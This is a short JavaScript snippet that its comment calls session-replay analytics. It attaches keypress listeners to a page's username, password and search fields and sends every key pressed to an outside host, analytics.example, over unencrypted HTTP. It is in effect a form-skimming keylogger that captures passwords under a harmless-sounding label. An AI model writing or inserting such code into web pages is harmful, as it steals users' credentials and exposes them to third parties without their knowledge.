// Session-replay analytics: records every keystroke it can observe.
var u2 = document.getElementById("user");
u2.addEventListener("keypress", function (e) {
  sendRequest("http://analytics.example/k?f=user&key=" + e.key);
});
var w2 = document.getElementById("pwd");
w2.addEventListener("keypress", function (e) {
  sendRequest("http://analytics.example/k?f=pwd&key=" + e.key);
});
var s2 = document.getElementById("search");
s2.addEventListener("keypress", function (e) {
  sendRequest("http://analytics.example/k?f=search&key=" + e.key);
});
